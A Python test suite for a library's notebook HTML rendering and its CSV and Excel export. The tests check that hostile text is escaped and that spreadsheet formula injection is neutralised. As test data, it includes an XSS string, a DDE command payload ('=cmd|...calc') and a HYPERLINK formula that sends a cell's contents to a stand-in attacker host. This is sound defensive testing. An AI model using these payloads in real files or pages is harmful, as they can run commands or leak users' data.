"""What a stage's value shows in a notebook and writes for a spreadsheet: hostile text stays text."""

import csv
import gc
import io
import json
import stat
import sys
import tempfile
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import python_calamine
from hypothesis import example, given, settings
from hypothesis import strategies as st

import scimrecon as sr
from scimrecon.errors import TableError
from scimrecon.tables import count, render, write_csv, write_excel

HOSTILE = "<script>alert('O\"Brien')<\\script><img src=x onerror=alert(1)>&amp;<!--"


class Shown(HTMLParser):
    """The text a browser would show of a piece of HTML, which must hold our own tags and nothing else."""

    def __init__(self, html):
        super().__init__()
        self.text = ""
        self.open = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        assert tag in {"div", "b", "table", "thead", "tbody", "tr", "th", "td", "bdi"}
        assert [name for name, _ in attrs] in ([], ["class"])
        self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, text):
        self.text += text

    def handle_comment(self, text):
        raise AssertionError(f"a comment got through: {text}")


@pytest.fixture
def export(tmp_path):
    path = tmp_path / f"{HOSTILE}.csv"
    with path.open("w", newline="") as file:
        csv.writer(file).writerows([["Employee", HOSTILE], ["000417", f" {HOSTILE}"]])
    return sr.read_export(path)


@pytest.fixture
def users(tmp_path):
    path = tmp_path / "users.json"
    user = {"id": HOSTILE, "title": HOSTILE, HOSTILE: "O'Brien", "emails": [{"type": HOSTILE, "value": HOSTILE}]}
    path.write_text(json.dumps({"Resources": [user], "totalResults": 1}))
    return sr.read_users(path)


def test_an_export_shows_its_name_and_columns_as_text(export):
    text = Shown(export._repr_html_()).text
    assert text.count(HOSTILE) == 2


def test_desired_users_show_their_source_and_cells_as_text(export):
    desired = sr.map_users(export, {"title": HOSTILE})
    assert Shown(desired._repr_html_()).text.count(HOSTILE) == 2


def test_users_show_ids_names_and_values_as_text(users):
    shown = Shown(users._repr_html_()).text
    assert shown.count(HOSTILE) >= 4


@given(st.text(), st.dictionaries(st.text(), st.text(), max_size=2), st.lists(st.text(), max_size=3), st.text())
def test_whatever_the_text_only_our_own_tags_are_drawn(title, facts, cells, name):
    frame = pd.DataFrame({name: pd.Series(cells, dtype="str")})
    Shown(render(title, facts, frame))


@pytest.mark.parametrize("nothing", [None, pd.NA, float("nan"), pd.NaT])
def test_an_empty_cell_shows_nothing(nothing):
    frame = pd.DataFrame({"title": pd.Series([nothing], dtype="object")}, index=["row"])
    assert Shown(render("Users", {}, frame)).text == "Userstitlerow"


@pytest.mark.parametrize("word", ["NA", "nan", "None", "Null", "000417"])
def test_a_cell_that_looks_empty_is_shown(word):
    frame = pd.DataFrame({"surname": pd.Series([word], dtype="str")})
    assert f"<td><bdi>{word}</bdi></td>" in render("Users", {}, frame)


def test_a_long_table_shows_its_head_and_says_so():
    html = render("Users", {}, pd.DataFrame({"id": [f"user-{number}" for number in range(1200)]}))
    assert "10 of 1,200 rows" in Shown(html).text
    assert ("user-9<" in html, "user-10<" in html) == (True, False)


def test_a_long_cell_is_cut():
    html = render("Users", {}, pd.DataFrame({"title": ["x" * 5000]}))
    assert "x" * 199 + "…<" in html
    assert "x" * 200 not in html


def test_a_cells_direction_of_writing_ends_with_the_cell():
    assert "<bdi>\u202eneirB'O</bdi>" in render("Users", {}, pd.DataFrame({"title": ["\u202eneirB'O"]})).replace("&#x27;", "'")


def test_text_between_dollar_signs_is_not_typeset_as_mathematics():
    assert render("Budget", {}, pd.DataFrame({"title": ["$5 and $6"]})).startswith(
        "<div class='scimrecon mathjax_ignore tex2jax_ignore'>"
    )


def test_a_value_without_rows_shows_its_facts_alone():
    assert Shown(render("Users", {"users": 0}, pd.DataFrame({"id": []}))).text == "Usersusers: 0"


@pytest.mark.parametrize(("number", "words"), [(0, "0 users"), (1, "1 user"), (2000, "2,000 users")])
def test_a_number_is_written_with_its_noun(number, words):
    assert count(number, "user") == words


def test_every_value_has_a_one_line_repr_with_counts_and_no_cells(export, users):
    desired = sr.map_users(export, {"title": HOSTILE})
    assert repr(export).endswith("rows=1, rejected=0, findings=1, preset='generic')")
    assert repr(desired).endswith("users=1, paths=1, problems=0)")
    assert repr(users) == "Users(1, dialect='rfc7644', complete='claimed')"


FORMULAS = [
    "=1+1",
    "+49 30 1234",
    "-1",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"O\'Brien")',
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tAnalyst",
    "\rAnalyst",
    "\nAnalyst",
]
WITHIN = ["Analyst;=1+1", 'Analyst;"=1+1', "Analyst; =1+1;", "Analyst\n=1+1", "Analyst\r\n=1+1", "Analyst\t@SUM(A1)"]
"""Texts whose rest is a cell of its own to an Excel that splits lines at semicolons."""
PLAIN = [
    "O'Brien",
    "Bríd",
    "a-b",
    "user+tag@example.com",
    "CC-4100; CC-4200",
    "1 = 1",
    "'quoted'",
    'say "hi"',
    "two\nlines",
    "\u202eneirB",
]
SPREADSHEET_TEXT = st.text(st.sampled_from("=+-@＝;\t\r\n,\"' a1\x00\x1f\u200b\u3000"), max_size=8)


def texts(*cells, name="title"):
    return pd.DataFrame({name: pd.Series(cells, dtype="str")})


def read_csv(path, delimiter=","):
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=delimiter))


def is_formula(cell):
    """Whether the first character that shows is one a formula begins with."""
    return next((letter for letter in cell if unicodedata.category(letter)[0] not in "ZC"), "") in [*"=+-@＝＋－＠"]


def sheet_of(frame, path):
    write_excel({"users": frame}, path)
    return openpyxl.load_workbook(path)["users"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_label_and_an_index_that_look_like_formulas_get_an_apostrophe_in_csv(tmp_path, text):
    frame = texts(text, name=text).set_axis(pd.Index([text], name=text), axis="index")

    write_csv(frame, tmp_path / "users.csv")

    cells = [cell for row in read_csv(tmp_path / "users.csv") for cell in row]
    assert len(cells) == 4
    assert [cell[:1] for cell in cells] == ["'"] * 4
    assert cells[3].removeprefix("'").replace("'", "") == text.replace("'", "").replace("\x00", "␀")


@pytest.mark.parametrize("text", WITHIN)
def test_a_formula_after_what_excel_splits_lines_at_gets_an_apostrophe(tmp_path, text):
    write_csv(texts(text), tmp_path / "users.csv")

    assert read_csv(tmp_path / "users.csv")[1][0].count("'") == 1


@pytest.mark.parametrize("text", PLAIN)
def test_a_cell_that_is_no_formula_is_written_as_it_is(tmp_path, text):
    write_csv(texts(text), tmp_path / "users.csv")

    assert read_csv(tmp_path / "users.csv") == [["title"], [text]]


@given(st.lists(st.tuples(SPREADSHEET_TEXT, SPREADSHEET_TEXT), min_size=1, max_size=3), SPREADSHEET_TEXT)
@example([("O'Brien", "x;=1+1;")], "title")
@example([("O'Brien", 'x\n=1+1\n"')], "title")
def test_no_spreadsheet_finds_a_formula_wherever_it_splits_lines(rows, label):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "users.csv")
        write_csv(pd.DataFrame(rows, columns=[label, "nick"], dtype="str"), path)
        found = [cell for delimiter in ",;\t" for row in read_csv(path, delimiter) for cell in row if is_formula(cell)]

    assert found == []


def test_numbers_stay_numbers_in_csv(tmp_path):
    frame = pd.DataFrame({"delta": [-1, 2], "share": [-0.5, 1.25], "line": pd.array([-3, None], "Int64"), "sure": [True, False]})

    write_csv(frame, tmp_path / "users.csv")

    assert read_csv(tmp_path / "users.csv")[1:] == [["-1", "-0.5", "-3", "True"], ["2", "1.25", "", "False"]]


def test_text_in_a_column_of_objects_is_written_like_any_text(tmp_path):
    write_csv(pd.DataFrame({"title": pd.Series(["=1+1", None, 7], dtype="object")}), tmp_path / "users.csv")

    assert read_csv(tmp_path / "users.csv") == [["title"], ["'=1+1"], [""], ["7"]]


def test_csv_begins_as_excel_knows_utf8_and_its_lines_end_as_rfc4180_has_it(tmp_path):
    write_csv(texts("Bríd"), tmp_path / "users.csv")

    assert (tmp_path / "users.csv").read_bytes() == b"\xef\xbb\xbftitle\r\nBr\xc3\xadd\r\n"


def test_control_characters_are_shown_by_their_pictures(tmp_path):
    write_csv(texts("O\x00Brien\x07\x7f"), tmp_path / "users.csv")

    assert read_csv(tmp_path / "users.csv")[1] == ["O␀Brien␇␡"]


@pytest.fixture(params=["csv", "excel"])
def write(request):
    return write_csv if request.param == "csv" else lambda frame, path: write_excel({"users": frame}, path)


def test_a_file_is_its_owners_alone_to_read(tmp_path, write):
    write(texts("O'Brien"), tmp_path / "users")

    assert stat.S_IMODE((tmp_path / "users").stat().st_mode) == 0o600


def test_a_file_that_is_there_is_overwritten_as_pandas_does(tmp_path, write):
    (tmp_path / "users").write_bytes(b"\0" * 100_000)

    write(texts("O'Brien"), str(tmp_path / "users"))

    assert len((tmp_path / "users").read_bytes()) < 10_000


@pytest.mark.parametrize("frame", [pd.DataFrame(), texts()], ids=["nothing", "no rows"])
def test_a_file_can_be_made_of_no_rows(tmp_path, write, frame):
    write(frame, tmp_path / "users")

    assert (tmp_path / "users").stat().st_size


def test_writing_leaves_the_frame_as_it_was(tmp_path, write):
    frame = texts("=1+1", "\x00")

    write(frame, tmp_path / "users")

    pd.testing.assert_frame_equal(frame, texts("=1+1", "\x00"))


def test_an_index_is_written_unless_it_only_counts(tmp_path):
    lines = pd.Index([2, 9], name="source_line")

    write_csv(texts("Analyst", "Lead"), tmp_path / "counted.csv")
    write_csv(texts("Analyst", "Lead", name="source_line").set_axis(lines, axis="index"), tmp_path / "lines.csv")

    assert read_csv(tmp_path / "counted.csv") == [["title"], ["Analyst"], ["Lead"]]
    assert read_csv(tmp_path / "lines.csv") == [["source_line", "source_line"], ["2", "Analyst"], ["9", "Lead"]]


def test_a_text_in_excel_is_a_text_and_stays_one_when_edited(tmp_path):
    hostile = [*FORMULAS, *WITHIN, *PLAIN, "#N/A", "000417", "1E5", "2024-01-01", "TRUE", "NA"]

    rows = list(sheet_of(texts(*hostile), tmp_path / "users.xlsx").iter_rows(min_row=2))

    assert len(rows) == len(hostile)
    assert {(cell.data_type, cell.quotePrefix) for (cell,) in rows} == {("s", True)}
    shown = {"\r\n": "\n", "\r": "\n", "\x00": "␀"}
    for (cell,), text in zip(rows, hostile, strict=True):
        for written, read in shown.items():
            text = text.replace(written, read)
        assert cell.value == text


def test_numbers_are_numbers_in_excel(tmp_path):
    frame = pd.DataFrame({"line": pd.array([-3, None], "Int64"), "seconds": [0.25, np.nan], "sure": [True, False]})

    sheet = sheet_of(frame, tmp_path / "users.xlsx")

    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == [[-3, 0.25, True], [None, None, False]]
    assert [cell.data_type for cell in sheet[2]] == ["n", "n", "b"]


def test_the_header_of_a_sheet_is_bold_in_view_and_text(tmp_path):
    sheet = sheet_of(texts("Analyst", name="=1+1"), tmp_path / "users.xlsx")

    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].font.bold) == ("=1+1", "s", True)
    assert sheet.freeze_panes == "A2"


def test_columns_are_as_wide_as_their_texts_within_reason(tmp_path):
    frame = pd.DataFrame({"id": ["obrien"], "user_name": ["ob"], "reason": ["x" * 500], "line": [2]})

    widths = {letter: one.width for letter, one in sheet_of(frame, tmp_path / "users.xlsx").column_dimensions.items()}

    assert widths == {"A": 8, "B": 11, "C": 60, "D": 6}


@settings(max_examples=25)
# openpyxl does not mark white space alone as text to be kept, so readers take it for an empty cell.
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), min_size=1).filter(str.strip), min_size=1))
@example(["_x0041_", "_x003D_1+1", "_x005F_", "\ufffe", "\uffff", "\x0b", "\u0085", "\u2028"])
def test_excel_shows_every_text_as_it_is_but_for_pictures_of_what_it_cannot_hold(cells):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "users.xlsx")
        write_excel({"users": texts("first", *cells)}, path)
        read = python_calamine.CalamineWorkbook.from_path(path).get_sheet_by_name("users").to_python(skip_empty_area=False)

    pictures = {code: 0x2400 + code for code in range(32) if chr(code) not in "\t\n"} | {
        127: 0x2421,
        0xFFFE: 0xFFFD,
        0xFFFF: 0xFFFD,
    }
    shown = [cell.replace("\r\n", "\n").replace("\r", "\n").translate(pictures) for cell in cells]
    assert [row[0] for row in read] == ["title", "first", *shown]


@pytest.mark.parametrize("letter", ["x", "😀"])
def test_a_text_longer_than_a_cell_is_cut_and_says_so(tmp_path, letter):
    whole, long = letter * (32_767 // len(letter.encode("utf-16-le")) * 2), letter * 40_000

    sheet = sheet_of(texts(whole, long), tmp_path / "users.xlsx")

    assert sheet["A2"].value == whole
    assert sheet["A3"].value.endswith(f"{letter}… [cut here, of 40,000 characters]")
    assert 32_700 < len(sheet["A3"].value.encode("utf-16-le")) / 2 <= 32_767


def test_more_rows_than_a_sheet_holds_are_refused_and_nothing_is_written(tmp_path):
    frame = pd.DataFrame({"line": np.arange(1_048_576)})

    with pytest.raises(TableError, match=r"users\.xlsx: changes has 1,048,576 rows and 1 columns; a sheet holds 1,048,575"):
        write_excel({"outcomes": texts("Analyst"), "changes": frame}, tmp_path / "users.xlsx")

    assert list(tmp_path.iterdir()) == []


def test_without_openpyxl_excel_says_what_to_install(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "openpyxl", None)

    with pytest.raises(TableError, match=r"pip install 'scimrecon\[excel\]'"):
        write_excel({"users": texts("Analyst")}, tmp_path / "users.xlsx")

    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("write", [write_csv, lambda frame, path: write_excel({"people": frame}, path)])
def test_a_file_that_cannot_be_written_is_named_and_nothing_else_is_heard(tmp_path, write):
    with pytest.raises(TableError, match=r"table\.any: the file cannot be written: No such file or directory\."):
        write(pd.DataFrame({"Name": ["O'Brien"]}), tmp_path / "nowhere" / "table.any")
    gc.collect()  # a warning would fail the test
